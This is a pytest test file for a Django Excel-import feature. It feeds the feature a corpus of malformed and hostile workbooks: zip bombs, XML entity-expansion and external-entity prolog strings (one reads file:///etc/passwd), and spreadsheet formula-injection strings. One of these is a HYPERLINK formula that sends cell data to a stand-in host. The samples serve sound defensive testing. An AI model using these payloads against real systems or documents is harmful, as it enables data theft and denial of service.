"""The bad-input corpus: workbooks a careless or hostile user could upload, each built here from a real
template. Every one ends in a message naming the file, sheet, part or cell, never a 500, within seconds,
and nothing is saved (neither figures nor, for a refused file, the upload)."""

import io
import re
import time
import zipfile
from decimal import Decimal as D

import pytest
from django.urls import reverse
from openpyxl import Workbook

from figures import excel, xlsx_guard
from figures.models import FigureImport
from indicators.models import QuarterlyFigure
from tests.factories import FigureFactory
from tests.figures.conftest import Q2, Q3
from tests.figures.test_excel import COL, download, fill, save, upload

pytestmark = pytest.mark.django_db
SHEET = "xl/worksheets/sheet1.xml"


def rewrite(content: bytes, part: str, change) -> bytes:
    """The same workbook with one part's bytes changed (or added), as a hand-edited file would be."""
    source = zipfile.ZipFile(io.BytesIO(content))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        names = source.namelist()
        for item in source.infolist():
            data = source.read(item.filename)
            target.writestr(item, change(data) if item.filename == part else data)
        if part not in names:
            target.writestr(part, change(b""))
    return output.getvalue()


def template(client, world, **values) -> tuple[bytes, int]:
    """A downloaded quarter template, with the stock row (A1) filled; returns the bytes and that row."""
    client.force_login(world.staff)
    workbook = download(client, world)
    row = fill(workbook.worksheets[0], "A1", **{"source": "省局", **values})
    return save(workbook), row


def refused(client, world, content: bytes, name="填报.xlsx") -> str:
    started = time.perf_counter()
    response = upload(client, world, content, name=name, follow=False)
    assert time.perf_counter() - started < 10, "a refusal must not take minutes"
    assert response.status_code == 200
    errors = response.context["form"].errors["file"]
    assert not FigureImport.objects.exists() and not QuarterlyFigure.objects.filter(period_end=Q3.end).exists()
    return " ".join(errors)


def previewed(client, world, content: bytes):
    """Upload, show the preview, try to confirm: the preview comes back and nothing is saved."""
    preview = upload(client, world, content).context["preview"]
    response = client.post(reverse("figure_import_preview", args=[preview.upload.pk]), follow=True)
    assert "未保存任何数据" in response.content.decode()
    assert not QuarterlyFigure.objects.filter(period_end=Q3.end).exists()
    return preview


# --- Bombs: refused from the zip's directory and a streaming scan, in seconds ------------------------------


def test_a_sheet_that_unpacks_past_the_part_limit_is_refused_unread(client, quarter_world):
    content, _row = template(client, quarter_world, value=1)
    padding = b" " * (xlsx_guard.MAX_PART_BYTES + 1)  # compresses to a few kilobytes
    bomb = rewrite(content, SHEET, lambda data: data.replace(b"</sheetData>", b"</sheetData>" + padding, 1))
    assert len(bomb) < 200_000
    message = refused(client, quarter_world, bomb, name="bomb.xlsx")
    assert "“bomb.xlsx”" in message and SHEET in message and "32 MB" in message


def test_a_sheet_of_a_hundred_thousand_empty_rows_is_refused(client, quarter_world):
    content, _row = template(client, quarter_world, value=1)
    rows = b"".join(b'<row r="%d"/>' % n for n in range(100, 100_100))
    message = refused(
        client, quarter_world, rewrite(content, SHEET, lambda d: d.replace(b"</sheetData>", rows + b"</sheetData>"))
    )
    assert "工作表“季度填报”超过20200行" in message


def test_a_row_far_down_the_sheet_is_refused_before_openpyxl_fills_the_gap(client, quarter_world):
    content, _row = template(client, quarter_world, value=1)
    far = b'<row r="1048576"><c r="A1048576" t="n"><v>1</v></c></row>'
    message = refused(
        client, quarter_world, rewrite(content, SHEET, lambda d: d.replace(b"</sheetData>", far + b"</sheetData>"))
    )
    assert "超过20200行" in message


def test_one_huge_string_is_refused(client, quarter_world):
    content, row = template(client, quarter_world, value=1, comment="短")
    huge = ("长" * 40_000).encode()
    message = refused(client, quarter_world, rewrite(content, SHEET, lambda d: d.replace("短".encode(), huge)))
    assert "超过Excel单元格32767个字符的上限" in message


def test_too_many_shared_strings_are_refused(client, quarter_world):
    content, _row = template(client, quarter_world, value=1)
    strings = (
        b"<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>"
        + b"<si><t>x</t></si>" * (xlsx_guard.MAX_SHARED_STRINGS + 1)
        + b"</sst>"
    )
    message = refused(client, quarter_world, rewrite(content, "xl/sharedStrings.xml", lambda _d: strings))
    assert f"共享字符串超过{xlsx_guard.MAX_SHARED_STRINGS}条" in message


# --- Broken and hostile XML ------------------------------------------------------------------------------


def test_malformed_sheet_xml_names_the_part(client, quarter_world):
    content, _row = template(client, quarter_world, value=1)
    message = refused(client, quarter_world, rewrite(content, SHEET, lambda d: d[: len(d) // 2]))
    assert "部件“xl/worksheets/sheet1.xml”不是有效的XML" in message


@pytest.mark.parametrize(
    "prolog",
    [
        b'<!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',  # entity expansion
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',  # external entity
        b'<!DOCTYPE x SYSTEM "http://example.invalid/x.dtd">',  # external DTD
    ],
)
def test_dtds_and_entities_are_refused(client, quarter_world, prolog):
    content, _row = template(client, quarter_world, value=1)
    hostile = rewrite(
        content, SHEET, lambda d: d.replace(b"?>", b"?>" + prolog, 1) if d.startswith(b"<?xml") else prolog + d
    )
    message = refused(client, quarter_world, hostile)
    assert "含有DTD或实体声明" in message


@pytest.mark.parametrize(
    ("stored", "shown"),
    [(b"NaN", "NaN"), (b"12abc", "12abc"), (b"Infinity", "Infinity"), (b"9" * 5000, "9999")],
)
def test_an_unreadable_stored_number_names_the_cell(client, quarter_world, stored, shown):
    content, row = template(client, quarter_world, value=4321)
    broken = rewrite(content, SHEET, lambda d: d.replace(b"<v>4321</v>", b"<v>" + stored + b"</v>"))
    message = refused(client, quarter_world, broken)
    assert f"单元格 G{row} 保存的值“{shown}" in message


def test_a_shared_string_index_out_of_range_names_the_cell(client, quarter_world):
    content, row = template(client, quarter_world, value=4321)
    cell = re.compile(rf'<c r="G{row}"([^>]*?) t="n"><v>4321</v>'.encode())
    broken = rewrite(content, SHEET, lambda d: cell.sub(rf'<c r="G{row}"\1 t="s"><v>999</v>'.encode(), d))
    assert broken != content
    message = refused(client, quarter_world, broken)
    assert f"单元格 G{row} 保存的值“999”" in message


def test_a_damaged_zip_or_missing_sheet_part_is_refused(client, quarter_world):
    content, _row = template(client, quarter_world, value=1)
    assert "不是有效的 .xlsx" in refused(client, quarter_world, content[: len(content) // 2])
    source = zipfile.ZipFile(io.BytesIO(content))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as target:
        for item in source.infolist():
            if item.filename != SHEET:
                target.writestr(item, source.read(item.filename))
    assert "缺少工作表“季度填报”的内容" in refused(client, quarter_world, output.getvalue())


# --- Numbers a cell can hold --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "message"),
    [
        (1e24, "数字过大：整数部分最多16位。"),
        (1.23456, "最多保留4位小数"),  # refused, never rounded to 1.2346
        ("1,2", "小数点请用“.”"),
        ("1e3", "不要用科学计数法"),
        ("12万", "“12万”写作 120000"),
        ("#DIV/0!", "请输入数字"),
    ],
)
def test_a_number_cell_is_read_by_the_one_parser(client, quarter_world, value, message):
    content, row = template(client, quarter_world, value=value)
    preview = previewed(client, quarter_world, content)
    errors = {r.number: r.errors for r in preview.rows}[row]
    assert len(errors) == 1 and errors[0].startswith(f"G{row}（本期数值）：") and message in errors[0]


def test_float_noise_and_accepted_spellings_from_excel(client, quarter_world):
    client.force_login(quarter_world.staff)
    workbook = download(client, quarter_world)
    sheet = workbook.worksheets[0]
    fill(sheet, "A1", value=0.1 + 0.2, source="省局")
    fill(sheet, "A4", value="１５．５%", source="统计局")
    preview = upload(client, quarter_world, save(workbook)).context["preview"]
    assert [r.errors for r in preview.rows] == [[], [], [], []]
    client.post(reverse("figure_import_preview", args=[preview.upload.pk]))
    saved = {f.indicator.code: f.value for f in QuarterlyFigure.objects.filter(period_end=Q3.end)}
    assert saved == {"A1": D("0.3"), "A4": D("15.5")}


def test_a_date_in_a_number_cell_says_so(client, quarter_world):
    import datetime as dt

    content, row = template(client, quarter_world, value=dt.date(2025, 9, 30))
    errors = {r.number: r.errors for r in previewed(client, quarter_world, content).rows}[row]
    assert errors == [f"G{row}（本期数值）：该单元格是日期或时间格式，请把单元格格式改为“常规”或“数值”后填写数字。"]


# --- Sheets that are not the template's own ----------------------------------------------------------------


def test_a_hidden_copy_of_the_data_sheet_placed_first_is_refused(client, quarter_world):
    client.force_login(quarter_world.staff)
    workbook = download(client, quarter_world)
    fill(workbook.worksheets[0], "A1", value=222, source="省局")
    copy = workbook.copy_worksheet(workbook.worksheets[0])
    fill(copy, "A1", value=999999)
    copy.sheet_state = "hidden"
    workbook.move_sheet(copy, offset=-len(workbook.sheetnames) + 1)
    message = refused(client, quarter_world, save(workbook))
    assert "工作表与模板不一致" in message and "（隐藏）" in message


@pytest.mark.parametrize("change", ["added", "renamed", "hidden"])
def test_added_renamed_or_hidden_sheets_are_refused(client, quarter_world, change):
    client.force_login(quarter_world.staff)
    workbook = download(client, quarter_world)
    fill(workbook.worksheets[0], "A1", value=222, source="省局")
    if change == "added":
        workbook.create_sheet("备注")
        expected = "“备注”"
    elif change == "renamed":
        workbook.worksheets[0].title = "Sheet1"
        expected = "找不到模板的数据表“季度填报”（现为“Sheet1”）"
    else:  # openpyxl will not save a workbook without a visible sheet; Excel's XML can say so
        expected = "数据表“季度填报”被隐藏了"
        content = rewrite(
            save(workbook), "xl/workbook.xml", lambda d: d.replace(b'state="visible"', b'state="hidden"', 1)
        )
        assert expected in refused(client, quarter_world, content)
        return
    assert expected in refused(client, quarter_world, save(workbook))


def test_duplicated_sheet_names_in_the_workbook_xml_are_refused(client, quarter_world):
    content, _row = template(client, quarter_world, value=1)
    workbook_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/workbook.xml")
    first = re.search(rb"<sheet [^>]*/>", workbook_xml).group(0)
    doubled = rewrite(
        content, "xl/workbook.xml", lambda d: d.replace(first, first + first.replace(b'sheetId="1"', b'sheetId="9"'))
    )
    assert "出现了不止一次" in refused(client, quarter_world, doubled)


def test_a_plain_workbook_is_not_a_template(client, quarter_world):
    client.force_login(quarter_world.staff)
    assert "不是从 ipcity 下载的模板" in refused(client, quarter_world, save(Workbook()))


# --- Rows whose code and name disagree ---------------------------------------------------------------------


def test_swapped_codes_are_refused_showing_both_names(client, quarter_world):
    client.force_login(quarter_world.staff)
    workbook = download(client, quarter_world)
    sheet = workbook.worksheets[0]
    stock_row = fill(sheet, "A1", value=100, source="省局")
    share_row = fill(sheet, "A4", value=12, source="统计局")
    sheet.cell(row=stock_row, column=COL["indicator"], value="A4")
    sheet.cell(row=share_row, column=COL["indicator"], value="A1")
    preview = previewed(client, quarter_world, save(workbook))
    errors = {r.number: r.errors for r in preview.rows}
    assert errors[stock_row] == [
        f"B{stock_row}（指标名称）：指标代码“A4”在本方案中是“专利密集型产业增加值占GDP比重”，"
        "而文件中这一行的名称是“有效发明专利拥有量”；请核对是否改动了代码或错行（代码和名称两列不要修改）。"
    ]
    assert "“有效发明专利拥有量”，而文件中这一行的名称是“专利密集型产业增加值占GDP比重”" in errors[share_row][0]
    assert preview.writes == 0 and preview.error_rows == 2


def test_a_name_retyped_with_full_width_characters_and_spaces_still_matches(client, quarter_world):
    client.force_login(quarter_world.staff)
    workbook = download(client, quarter_world)
    row = fill(workbook.worksheets[0], "A4", value=12, source="统计局")
    workbook.worksheets[0].cell(row=row, column=COL["name"], value=" 专利密集型产业增加值占ＧＤＰ 比重　")
    preview = upload(client, quarter_world, save(workbook)).context["preview"]
    assert {r.number: r.errors for r in preview.rows}[row] == [] and preview.ok


# --- The preview's counts ------------------------------------------------------------------------------------


def test_rows_with_errors_are_not_counted_as_to_be_saved(client, quarter_world):
    client.force_login(quarter_world.staff)
    workbook = download(client, quarter_world)
    sheet = workbook.worksheets[0]
    fill(sheet, "A1", value=100, source="省局")
    fill(sheet, "A4", value=150, source="统计局")  # a share over 100: refused by the rules, action still "create"
    preview = upload(client, quarter_world, save(workbook)).context["preview"]
    assert preview.error_rows == 1 and preview.writes == 1
    html = client.get(reverse("figure_import_preview", args=[preview.upload.pk])).content.decode()
    assert "将保存 1 行" in html and "有错误 1 行" in html


# --- User text: control characters in, formulas never out --------------------------------------------------


def test_a_control_character_in_a_comment_cell_is_refused_naming_the_cell(client, quarter_world):
    # C0 controls cannot be stored in XML at all (expat refuses them: "not valid XML"); C1 controls can.
    content, row = template(client, quarter_world, value=1, comment="标\x85记")
    errors = {r.number: r.errors for r in previewed(client, quarter_world, content).rows}[row]
    assert len(errors) == 1 and errors[0].startswith(f"J{row}（说明）：“说明”第2个字符") and "U+0085" in errors[0]
    stored = re.compile(rb"(<c r=\"J%d\"[^>]*><is><t>)" % row)
    raw = rewrite(content, SHEET, lambda d: stored.sub(rb"\1&#7;", d))
    FigureImport.objects.all().delete()
    assert "不是有效的XML" in refused(client, quarter_world, raw)


INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?"&B5,"点击")',
    "+1+1",
    "-2+3 整改措施见附件",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def test_injection_strings_round_trip_as_text(client, quarter_world):
    for offset, (indicator, text) in enumerate(
        zip([quarter_world.stock, quarter_world.share], INJECTIONS, strict=False)
    ):
        FigureFactory(
            indicator=indicator,
            period_end=Q3.end,
            status=QuarterlyFigure.Status.DRAFT,
            value=D(10 + offset),
            comment=text,
            source=INJECTIONS[-1 - offset].strip(),
        )
    client.force_login(quarter_world.staff)
    workbook = download(client, quarter_world)
    sheet = workbook.worksheets[0]
    comments = {
        sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=COL["comment"])
        for r in range(excel.FIRST_ROW, sheet.max_row + 1)
    }
    assert comments["A1"].value == INJECTIONS[0] and comments["A1"].data_type == "s" and comments["A1"].quotePrefix
    preview = upload(client, quarter_world, save(workbook)).context["preview"]
    assert [r.action for r in preview.rows if r.code in ("A1", "A4")] == ["unchanged", "unchanged"]


def test_a_stored_control_character_does_not_break_the_templates(client, quarter_world):
    FigureFactory(indicator=quarter_world.stock, period_end=Q2.end, value=D(1), comment="旧数据\x07", source="局\x0b")
    client.force_login(quarter_world.staff)
    assert client.get(reverse("figure_quarter_template", args=[quarter_world.plan.code, str(Q2)])).status_code == 200
    assert client.get(reverse("figure_history_template", args=[quarter_world.plan.code])).status_code == 200


# --- Expiry of uploaded bytes ----------------------------------------------------------------------------------


def test_uploaded_bytes_expire_and_the_import_record_stays(client, quarter_world, settings):
    import datetime as dt

    from django.utils import timezone

    from figures.tasks import import_files_expire_task

    content, _row = template(client, quarter_world, value=1)
    stored = upload(client, quarter_world, content).context["preview"].upload
    assert FigureImport.objects.get().size == len(content)
    assert import_files_expire_task.delay().get() == 0  # a fresh upload is kept
    FigureImport.objects.update(uploaded_at=timezone.now() - dt.timedelta(days=settings.FIGURE_IMPORT_TTL_DAYS + 1))
    assert import_files_expire_task.delay().get() == 1
    record = FigureImport.objects.get()
    assert bytes(record.content) == b"" and record.content_deleted_at is not None
    assert (record.filename, record.size, record.uploaded_by) == ("填报.xlsx", len(content), quarter_world.staff)
    assert import_files_expire_task.delay().get() == 0  # safe to repeat
    response = client.get(reverse("figure_import_preview", args=[stored.pk]), follow=True)
    assert response.status_code == 200 and "已超过保存期限" in response.content.decode()
    response = client.post(reverse("figure_import_preview", args=[stored.pk]), follow=True)
    assert response.status_code == 200 and not QuarterlyFigure.objects.filter(period_end=Q3.end).exists()
    entry = settings.CELERY_BEAT_SCHEDULE["nightly-import-file-cleanup"]
    assert entry["task"] == "figures.tasks.import_files_expire_task"
